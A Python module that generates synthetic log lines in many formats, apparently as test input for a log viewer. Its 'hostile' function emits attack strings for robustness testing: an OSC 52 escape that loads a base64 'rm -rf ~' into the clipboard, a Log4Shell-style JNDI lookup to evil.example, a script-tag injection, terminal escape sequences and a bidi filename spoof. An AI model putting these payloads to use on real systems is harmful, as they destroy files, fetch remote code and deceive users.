"""What the programs of the estate write: one function per style of log. All take chance and time from outside."""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from datetime import UTC, datetime

Talk = Callable[[random.Random, float, int], bytes]
"""Makes the line, or lines, with number `n` at a time in epoch seconds; ends with a line feed."""

_ACTIONS = ("captured", "authorised", "refunded", "settled", "queued", "shipped", "priced", "reserved")
_PATHS = ("/", "/healthz", "/api/cart", "/api/items/4711", "/api/search?q=lamp", "/static/app.js", "/login")
_AGENTS = ("Mozilla/5.0", "curl/8.5.0", "kube-probe/1.36", "okhttp/4.12.0")


def _iso(now: float) -> str:
    return datetime.fromtimestamp(now, UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def _level(rng: random.Random) -> str:
    return rng.choices(("debug", "info", "warn", "error"), (10, 80, 8, 2))[0]


def json_service(rng: random.Random, now: float, n: int) -> bytes:
    """One JSON object per line, as a structured logger writes."""
    level = _level(rng)
    line: dict[str, object] = {"ts": _iso(now), "level": level, "msg": rng.choice(_ACTIONS), "order": 81_000 + n}
    line["latency_ms"] = round(rng.expovariate(1 / 40), 1)
    line["trace_id"] = f"{rng.getrandbits(64):016x}"
    if level == "error":
        line["error"] = {"type": "UpstreamTimeout", "message": "no answer within 2s", "attempt": rng.randint(1, 3)}
    return json.dumps(line, separators=(",", ":")).encode() + b"\n"


def logfmt(rng: random.Random, now: float, n: int) -> bytes:
    """key=value pairs."""
    text = f'time={_iso(now)} level={_level(rng)} msg="request served" seq={n} duration={rng.randint(1, 900)}ms\n'
    return text.encode()


def access_log(rng: random.Random, now: float, n: int) -> bytes:
    """A web server's access log."""
    when = datetime.fromtimestamp(now, UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
    status = rng.choices((200, 304, 404, 500), (85, 10, 4, 1))[0]
    address = f"10.244.{rng.randrange(3)}.{rng.randint(2, 250)}"
    request = f'"GET {rng.choice(_PATHS)} HTTP/1.1" {status} {rng.randint(120, 40_000)}'
    return f'{address} - - [{when}] {request} "-" "{rng.choice(_AGENTS)}"\n'.encode()


def colourful(rng: random.Random, now: float, n: int) -> bytes:
    """Plain text with colour sequences, as development servers write."""
    level = _level(rng)
    colour = {"debug": "90", "info": "32", "warn": "33;1", "error": "38;5;196"}[level]
    when = datetime.fromtimestamp(now, UTC).strftime("%H:%M:%S")
    word = rng.choice(("indexed", "evicted", "warmed", "compacted"))
    return f"{when} \x1b[{colour}m{level.upper():<5}\x1b[0m \x1b[1m{word}\x1b[0m shard={n % 12} docs={n * 7}\n".encode()


def waiting_for_database(rng: random.Random, now: float, n: int) -> bytes:
    """An init container that never gets what it waits for."""
    return f"waiting for database ledger-db:5432 (try {n}): connection refused\n".encode()


def python_trace(rng: random.Random, now: float, n: int) -> bytes:
    """The last words of a Python program."""
    return (
        f"{_iso(now)} ERROR posting batch {8_000 + rng.randrange(900)} failed\n"
        "Traceback (most recent call last):\n"
        '  File "/app/ledger/main.py", line 214, in run\n'
        "    self.post(batch)\n"
        '  File "/app/ledger/posting.py", line 88, in post\n'
        "    balance = accounts[entry.account].balance - entry.amount\n"
        "              ~~~~~~~~^^^^^^^^^^^^^^^\n"
        f"KeyError: 'ACC-{rng.randint(1000, 9999)}'\n"
    ).encode()


def java_trace(rng: random.Random, now: float, n: int) -> bytes:
    """The last words of a Java program, with a cause."""
    return (
        f"{_iso(now)} FATAL [main] c.e.gateway.Application - cannot start\n"
        "java.lang.IllegalStateException: failed to bind listener\n"
        "\tat com.example.gateway.Listener.start(Listener.java:61)\n"
        "\tat com.example.gateway.Application.run(Application.java:37)\n"
        "\tat com.example.gateway.Application.main(Application.java:12)\n"
        "Caused by: java.net.ConnectException: Connection refused (vault.payments.svc:8200)\n"
        "\tat java.base/sun.nio.ch.Net.pollConnect(Native Method)\n"
        "\t... 14 more\n"
    ).encode()


def job_steps(rng: random.Random, now: float, n: int) -> bytes:
    """A batch job that counts its way through."""
    return f"{_iso(now)} step {n}: {rng.randint(200, 900)} rows written\n".encode()


def hostile(rng: random.Random, now: float, n: int) -> bytes:
    """Lines that try to get at a terminal or its reader: none of them may do anything."""
    lines = (
        b"\x1b]52;c;cm0gLXJmIH4K\x07 clipboard by OSC 52",
        b"\x1b]0;title taken\x07\x1b[2J\x1b[H cleared screen",
        b"[bold red]markup[/bold red] [link=https://evil.example]click[/link] [/]",
        "user=\u202egnp.exe\u202c zero\u200bwidth \u2066isolate\u2069 \ufeffbom".encode(),
        b"latin1 caf\xe9 and \xff\xfe raw bytes, cut utf8 \xc3",
        b"carriage\roverwrites nul \x00 bell \x07 backspace\x08\x08 delete\x7f",
        b"\x1b[31mred without end, 8-bit \x9b31m csi \x90 dcs",
        b"\x1bP+q544e\x1b\\ DCS and \x1b[6n a question to the terminal",
        b"{\"level\":\"error\",\"msg\":\"\\u001b[31mred in json\\u001b[0m\",\"n\":" + str(n).encode() + b"}",
        b"%s %d %n ${jndi:ldap://evil.example/a} {0} <script>alert(1)</script>",
    )  # fmt: skip
    return lines[n % len(lines)] + b"\n"
